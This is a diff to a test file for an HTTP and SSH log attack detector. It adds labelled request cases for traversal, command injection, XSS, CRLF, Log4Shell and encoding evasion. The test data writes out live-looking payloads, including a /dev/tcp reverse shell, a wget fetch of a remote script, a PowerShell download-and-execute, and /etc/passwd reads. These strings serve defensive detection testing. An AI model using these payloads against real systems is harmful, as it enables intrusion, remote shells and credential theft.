@@ -12,7 +12,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from transforms.decode import MAX_DECODE_ROUNDS, full_decode, normalize_path, normalize_query
+from transforms.decode import (
+    MAX_DECODE_ROUNDS,
+    encoding_evasion,
+    full_decode,
+    normalize_header,
+    normalize_path,
+    normalize_query,
+)
 from transforms.errors import ConfigError
 from transforms.model import Event, EventKind, SshOutcome
 from transforms.signals import RULES, SSH_EVENT_HINTS, Severity, Signal, SignalDetector, SignalParams
@@ -104,10 +111,16 @@ HTTP_CASES: list[tuple[Event, set[str]]] = [
     # -- http.path_traversal
     (http("/static/..%2f..%2f..%2fetc%2fpasswd"), {"http.path_traversal"}),  # encoded ../
     (http("/cgi-bin/.%2e/.%2e/.%2e/bin/sh"), {"http.path_traversal"}),  # Apache CVE-2021-41773
-    (http("/cgi-bin/%%32%65%%32%65/bin/sh"), {"http.path_traversal"}),  # CVE-2021-42013 nested encoding
+    (
+        http("/cgi-bin/%%32%65%%32%65/bin/sh"),
+        {"http.path_traversal", "http.protocol_abuse"},
+    ),  # CVE-2021-42013 nested encoding (a second layer over a dot is evasion too)
     (http("/download?file=..%5C..%5Cwindows%5Cwin.ini"), {"http.path_traversal"}),  # backslashes
     (http("/page?include=/etc/shadow"), {"http.path_traversal"}),  # absolute LFI
-    (http("/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"), {"http.path_traversal"}),  # overlong UTF-8 dots
+    (
+        http("/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"),
+        {"http.path_traversal", "http.protocol_abuse"},
+    ),  # overlong UTF-8 dots: a traversal, and an encoding no client writes
     (http("/index.php?page=php://filter/resource=index"), {"http.path_traversal"}),  # PHP wrapper
     (http("/docs/etc/passwords-help.html"), set()),  # an OS name must end at a component boundary
     # -- http.rfi
@@ -116,8 +129,11 @@ HTTP_CASES: list[tuple[Event, set[str]]] = [
     (http("/i.php?mosConfig_absolute_path=http://evil.example/"), {"http.rfi"}),  # include-style name
     (http("/img?src=http://198.51.100.9/x.txt"), {"http.rfi"}),  # IP literal host
     # -- http.shellshock
-    (http("/cgi-bin/status", user_agent="() { :; }; /bin/bash -c 'id'"), {"http.shellshock"}),  # in the UA
-    (http("/", referrer="() { ignored; }; echo"), {"http.shellshock"}),  # in the referrer
+    (
+        http("/cgi-bin/status", user_agent="() { :; }; /bin/bash -c 'id'"),
+        {"http.shellshock", "http.cmdi"},
+    ),  # in the UA, and the command it runs
+    (http("/", referrer="() { ignored; }; echo"), {"http.shellshock", "http.cmdi"}),  # in the referrer, "; echo"
     # -- http.jndi
     (http("/", user_agent="${jndi:ldap://198.51.100.9/a}"), {"http.jndi"}),  # Log4Shell in the UA
     (http("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://h/a%7D"), {"http.jndi"}),  # obfuscated, encoded, in the URL
@@ -156,6 +172,103 @@ HTTP_CASES: list[tuple[Event, set[str]]] = [
     (http("\\x16\\x03\\x01", method=None, extra={"request": "malformed"}), {"http.protocol_abuse"}),  # TLS bytes
     (http(None, method=None, status=400), {"http.protocol_abuse"}),  # nginx "" 400
     (http("index.php", method="GET"), {"http.protocol_abuse"}),  # target without a leading '/'
+    # -- header rules: traversal / OS files and commands in the decoded user agent and referrer
+    (http("/get", user_agent="cat /etc/passwd"), {"http.path_traversal"}),  # an OS file as the UA
+    (http("/get", user_agent="/proc/self/environ"), {"http.path_traversal"}),  # ... without a command
+    (http("/", referrer="http://x.example/?f=../../../../etc/shadow"), {"http.path_traversal"}),  # referrer
+    (http("/", referrer="http://x.example/%2e%2e%2f%2e%2e%2fwin.ini"), {"http.path_traversal"}),  # decoded first
+    (http("/get", user_agent=";chmod +x evil.php"), {"http.cmdi"}),  # a command with an argument ('+' kept)
+    (http("/get", user_agent="env --version"), {"http.cmdi"}),  # a UA that opens with a command and an option
+    (http("/", referrer="http://x.example/?q=1;wget+http://198.51.100.9/x.sh"), {"http.cmdi"}),  # in a referrer
+    (http("/", user_agent='/bin/bash -c "sh -i>& /dev/tcp/172.17.0.1/4444 0>&1"'), {"http.cmdi"}),  # reverse shell
+    (http("/", user_agent="Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119"), set()),  # 'id' =
+    # Indonesian: a comment token, not a command
+    (http("/", user_agent="Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF)"), set()),  # Pashto
+    (http("/", user_agent="Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux)"), set()),  # a tool
+    (http("/", user_agent="curl/7.81.0"), set()),  # a command's own user agent is no command line
+    (http("/", user_agent="Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"), set()),  # ';' in comments
+    (
+        http("/", referrer="http://www.google.fr/url?sa=t&rct=j&q=&esrc=s&cd=5&url=http%3A%2F%2Fx.example%2Fa.pdf"),
+        set(),
+    ),  # a search engine's redirect referrer: '&', '%', ':' and '/' everywhere
+    (http("/", referrer="http://x.example/projects/+++Result:+chosen+nickname+%22ab%22;sent;"), set()),  # spam
+    (http("/", referrer="http://images.google.com/images?q=http://%60www.google.com/"), set()),  # a lone backtick
+    # -- header rules: XSS tags and quoted event handlers in the user agent and referrer
+    (http("/", referrer="http://x.example/?q=<script>alert(1)</script>"), {"http.xss"}),  # a tag in the referrer
+    (http("/", referrer='https://evil.example/" onmouseover=alert(document.cookie) "'), {"http.xss"}),  # handler
+    (http("/", referrer="http://x.example/?q=&lt;script+&gt;alert(1)"), {"http.xss"}),  # an entity-encoded tag
+    (http("/", user_agent="Mozilla/5.0 (Windows NT 10.0) <img onclick=alert(1)>"), {"http.xss"}),  # tag in a UA
+    (http("/", user_agent="Test/1.0 (compatible; onload=alert(document.domain))"), {"http.xss"}),  # handler in a UA
+    (http("/", referrer="https://example.com/page?version=1.0&action=view&onboarding=1"), set()),  # "on..." names
+    # -- http.crlf: CR/LF in the path, a parameter name, or before a header line
+    (http("/?lang=foobar%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"), {"http.crlf"}),  # splitting
+    (http("/%0d%0aSet-Cookie:a=b"), {"http.crlf"}),  # in the path
+    (http("/get?parameter%0d%0a=test"), {"http.crlf"}),  # in a parameter name
+    (http("/r?to=%0ALocation:%20http://evil.example/"), {"http.crlf"}),  # a one-word header name
+    (
+        http("/p?nombre=any%250D%250ASet-cookie%253A%2BTamper%253D576"),
+        {"http.crlf", "http.protocol_abuse"},
+    ),  # CSIC's double-encoded Set-Cookie injection
+    (http("/contact?msg=Hello%0D%0AThanks%3A+see+you"), set()),  # a textarea sent by GET: a newline is text
+    # -- http.protocol_abuse: NUL, encodings no client writes
+    (http("/download?file=report.pdf%00.jpg"), {"http.protocol_abuse"}),  # a NUL byte
+    (http("/?param=%c0%af"), {"http.protocol_abuse"}),  # overlong '/'
+    (http("/?param=%F5%80%BF%BF"), {"http.protocol_abuse"}),  # a code point above U+10FFFF
+    (http("/?p=%2573%256F%256D%2565"), {"http.protocol_abuse"}),  # letters encoded twice
+    (http("/vaciar.jsp?B2=Vaciar+carrito%257C"), {"http.protocol_abuse"}),  # '|' encoded twice
+    (http("/x?a=%25252e"), {"http.protocol_abuse"}),  # three layers
+    (http("/go?next=%2Fsearch%3Fq%3Da%2520b%253F"), set()),  # a URL nested in a parameter: %2520, %253F are fine
+    (http("/buscar?q=A%F1adir+al+carrito"), set()),  # a Latin-1 form: a lone high byte is no UTF-8 abuse
+    # -- http.sensitive_file: backup copies, sources, config dumps
+    (http("/index.php~"), {"http.sensitive_file"}),  # an editor's backup copy
+    (http("/tienda1/publico/~"), {"http.sensitive_file"}),  # the bare '~' probe
+    (http("/tienda1/publico/caracteristicas.jsp.java"), {"http.sensitive_file"}),  # source of a JSP
+    (http("/_vti_pvt/service.cnf"), {"http.sensitive_file"}),  # FrontPage / MySQL config
+    (http("/backup/site.bkp"), {"http.sensitive_file"}),  # a backup
+    (http("/~psionic/projects/securitrack/config.xsl"), set()),  # a UserDir path is no backup copy
+    (http("/files/xdotool.c"), set()),  # a site that serves C sources (the elastic log's does)
+    # -- http.sqli: '+' read as a space in the path
+    (http("/item/1+union+all+select+1,2,3--"), {"http.sqli"}),  # a form-encoded payload in the path
+    (http("/tags/c++/select+a+plan"), set()),  # '+' in a path, SQL words, no SQL
+    # -- PHP code (http.cmdi), XML declarations (no XSS)
+    (http("/get?foo=%3C%3Fphp%20echo%20%22test%22"), {"http.cmdi"}),  # <?php
+    (http("/get?code=%3C%3F%3D%24_GET%5B%27data%27%5D%3F%3E"), {"http.cmdi"}),  # <?= short echo
+    (http("/get?foo=%3C%3F%20php%20echo%20%22test%22"), {"http.cmdi"}),  # <? php with a space
+    (http("/get?%3C%3Fphp=value"), set()),  # a parameter named "<?php" carries no code
+    (http("/get?data=%5BPHP%5Dsystem%28%27whoami%27%29%3B%5B%2FPHP%5D"), {"http.cmdi"}),  # [php] blocks
+    (http("/get?foo=%7Bphp%7Dtest%7B%2Fphp%7D"), {"http.cmdi"}),  # Smarty {php}
+    (http("/get?x=%3C%3Fxml%20%3Aecho%201%3B"), {"http.cmdi"}),  # "<?xml" carrying code
+    (http("/api?doc=%3C%3Fxml%20version%3D%221.0%22%20standalone%3D%22yes%22%3F%3E"), set()),  # an XML declaration
+    (http("/get?data=%3C%3Fxml-stylesheet%20type%3D%22text%2Fxsl%22%20href%3D%22s.xsl%22%3F%3E"), set()),  # a PI
+    (http("/s?q=%3C%3Fimport+namespace%3Dt"), {"http.xss"}),  # IE's <?import stays XSS
+    # -- PowerShell verbs and glob spellings of paths
+    (http("/get?cmd=%3Biwr%20http://example.com/path/file.ps1"), {"http.cmdi"}),  # ;iwr
+    (http("/get?x=Invoke-WebRequest%20http://example.com/path/file.ps1"), {"http.cmdi"}),  # the full cmdlet
+    (http("/get?x=iex(New-Object+Net.WebClient).DownloadString(%27http://x/a%27)"), {"http.cmdi"}),  # iex(...)
+    (http("/search?q=iex+stock+exchange"), set()),  # "IEX" the exchange: no bracket, option or URL after it
+    (http("/get?s=/etc/pas[s]wd"), {"http.path_traversal"}),  # a bracket expression
+    (http("/get?cmd=cat%20/%5B%3F%5Dtc/pa%5B%3F%5Dswd"), {"http.path_traversal"}),  # /[?]tc/pa[?]swd
+    (http("/get?s=/etc/%5Bm-z%5Dasswd"), {"http.path_traversal"}),  # a range
+    (http("/get?s=;/bin/ca?+/et*/passwd"), {"http.path_traversal", "http.cmdi"}),  # '?' and '*'
+    (http("/get?exec=/bi%5Bn%5D/bash"), {"http.cmdi"}),  # a shell's path
+    (http("/get?s=/usr/bin/%5Bu%5Dname+-a"), {"http.cmdi"}),  # a command's path
+    (http("/item?id=1%2F**%2Fand%2F**%2Fname"), set()),  # "/**/" is a SQL comment, not a glob
+    (http("/go?next=/account/settings%3Ftab%3D1"), set()),  # a '?' in a nested path
+    (http("/api/v1/*/items"), set()),  # a '*' in a REST path
+    # -- http.jndi: nested default-value obfuscations; http.rfi: IPv6 hosts
+    (http("/", user_agent="${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.9/a}"), {"http.jndi"}),  # ${j${...
+    (http("/?x=%24%7Bjnd%24%7Bupper:i%7D:ldap://h/a%7D"), {"http.jndi"}),  # ${jnd${upper:i}
+    (http("/", referrer="${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://h/a}"), {"http.jndi"}),  # ${${env:..:-j}
+    (http("/", user_agent="${:-j}${:-n}di"), {"http.jndi"}),  # ${:-j}
+    (http("/tpl?x=${a}${b}"), set()),  # two lookups side by side are a template, not a nesting
+    (http("/ajax?src=https://[2001:db8:701:1100::29c8]/gecko.php"), {"http.rfi"}),  # bracketed IPv6 host
+    (http("/ajax?src=https://2001:db8:701:1100::29c8/gecko.php"), {"http.rfi"}),  # bare IPv6 host
+    (http("/login?next=https://example.org:8443/a"), set()),  # a host with a port is no IPv6 literal
+    # -- false positives fixed: a documentation path, backticks as quotes
+    (http("/get/javascript-manual/document.cookie"), set()),  # a page about document.cookie
+    (http("/search?q=x%60+or+y%3Dz"), set()),  # a backtick quotes identifiers and code, never an SQL string
+    (http("/search?q=use+%60%23include+guards"), set()),  # ... so "`#" is no quote-then-comment
+    (http("/x?a=%60id%60"), {"http.cmdi"}),  # backticks around a command stay command substitution
     # -- several rules at once, each once
     (
         http("/../../etc/passwd", user_agent="Nikto"),
@@ -172,6 +285,9 @@ def test_http_rules_fire_exactly_as_listed(detect: SignalDetector, event: Event,
 
 SSH_CASES: list[tuple[Event, set[str]]] = [
     (ssh(SshOutcome.FAILED, ssh_method="password"), {"ssh.auth_failed"}),  # "Failed password for root"
+    (ssh(SshOutcome.FAILED, ssh_method="publickey"), set()),  # a client trying its keys one after the other
+    (ssh(SshOutcome.FAILED, ssh_method="publickey", invalid_user=True), {"ssh.invalid_user"}),  # ... for no one
+    (ssh(SshOutcome.FAILED, ssh_method="keyboard-interactive"), {"ssh.auth_failed"}),  # a password by PAM
     (ssh(SshOutcome.FAILED, invalid_user=True), {"ssh.auth_failed", "ssh.invalid_user"}),  # ... for invalid user
     (ssh(SshOutcome.AUTH_FAILURE), {"ssh.auth_failed"}),  # pam_unix authentication failure
     (ssh(SshOutcome.INVALID_USER), {"ssh.invalid_user"}),  # "Invalid user admin from"
@@ -365,6 +481,89 @@ def test_decoding_known_answers(raw: str, path: str, query: str) -> None:
     """The canonical forms of a few tricky spellings."""
     assert normalize_path(raw) == path
     assert normalize_query(raw) == query
+
+
+# (raw path or query, whether it hides characters behind an encoding no client writes)
+EVASION_CASES = [
+    ("/a%252e%252e/", True),  # a second layer over a dot
+    ("q=%253Cscript", True),  # ... over a '<'
+    ("q=%2527", False),  # ... but not over a quote: a nested URL may escape it (PHP urlencode does)
+    ("x=%2500", True),  # ... over a NUL
+    ("%%32%65", True),  # hex digits encoded inside an escape (CVE-2021-42013)
+    ("%25%37%33", True),  # an escape spelled with escapes (CRS 920230)
+    ("a=%25252f", True),  # a third layer, whatever the character
+    ("%c0%af", True),  # overlong '/'
+    ("%e0%80%ae", True),  # overlong '.', three bytes
+    ("%ed%a0%80", True),  # a UTF-16 surrogate
+    ("%F5%80%BF%BF", True),  # above U+10FFFF
+    ("next=%2Fsearch%3Fq%3Da%2520b", False),  # a URL nested in a value: space and delimiters twice
+    ("url=http%253A%252F%252Fx.example%252F", False),  # ... its ':' and '/'
+    ("q=%25C3%25A9", False),  # ... its UTF-8 bytes
+    ("q=A%F1adir", False),  # Latin-1 'ñ': a lone high byte
+    ("q=%ed%e8%ea", False),  # cp1251 text: lead bytes without continuation bytes
+    ("q=%c0", False),  # a truncated sequence looks like Latin-1 'À': not flagged
+    ("off=100%25", False),  # a literal percent sign
+    ("plain/path", False),  # no escape at all
+]
+
+
+@pytest.mark.parametrize(("raw", "expected"), EVASION_CASES)
+def test_encoding_evasion_known_answers(raw: str, expected: bool) -> None:
+    """Double encoding of characters nested URLs never escape twice, and invalid UTF-8, are evasion."""
+    assert encoding_evasion(raw) is expected
+
+
+@pytest.mark.parametrize(
+    ("raw", "expected"),
+    [
+        ("Mozilla/5.0 (+http://x/bot)", "mozilla/5.0 (+http://x/bot)"),  # '+' is no space in a header
+        ("cat%20%2Fetc%2Fpasswd", "cat /etc/passwd"),  # escapes are decoded
+        ("C:%5CWindows%5Cwin.ini", "c:/windows/win.ini"),  # '\\' read as '/'
+    ],
+)
+def test_normalize_header_known_answers(raw: str, expected: str) -> None:
+    """A header is decoded and lower-cased but keeps its '+'."""
+    assert normalize_header(raw) == expected
+
+
+_NO_PERCENT = st.text(max_size=60).filter(lambda text: "%" not in text)
+# What a URL nested in a parameter value holds: letters, digits, spaces, delimiters, non-ASCII text.
+_NESTED_TEXT = st.text(
+    alphabet=st.one_of(
+        st.sampled_from("abcXYZ0189 -._~/:?#[]@!$&'()*+,;="),
+        st.characters(min_codepoint=0xA0, exclude_categories=["Cs"]),
+    ),
+    max_size=40,
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(_NO_PERCENT, _NESTED_TEXT)
+def test_one_layer_of_encoding_is_never_evasion(text: str, nested: str) -> None:
+    """Whatever a client encodes once is not flagged, nor a URL nested in a parameter value."""
+    assert not encoding_evasion(quote(text, safe=""))
+    assert not encoding_evasion("next=" + quote("/p?q=" + quote(nested, safe=" "), safe=""))
+
+
+@settings(max_examples=200, deadline=None)
+@given(_NO_PERCENT, st.sampled_from('abcXYZ09-._~<>"\\`{}|^\x00\r\n'))
+def test_two_layers_over_a_plain_character_are_evasion(text: str, char: str) -> None:
+    """A letter, a digit, a control or an attack character escaped twice is flagged wherever it sits."""
+    assert encoding_evasion(quote(text, safe="") + f"%25{ord(char):02X}")
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.sampled_from(["/etc/passwd", "/etc/shadow", "/proc/self/environ"]),
+    st.data(),
+)
+def test_any_glob_spelling_of_an_os_file_is_traversal(detect: SignalDetector, path: str, data: st.DataObject) -> None:
+    """Replacing one letter of an OS file path by '?', '[x]', '[!q]' or a '*' run still names the file."""
+    letters = [i for i, char in enumerate(path) if char.isalpha()]
+    i = data.draw(st.sampled_from(letters))
+    glob = data.draw(st.sampled_from(["?", f"[{path[i]}]", "[!q]", "*"]))
+    spelled = path[:i] + glob + path[i + 1 :]
+    assert "http.path_traversal" in rules(detect(http("/get?cmd=cat+" + quote(spelled, safe="/"))))
 
 
 # Text that exercises decoding: escapes, '+', slashes, dots and case, nested up to three times.
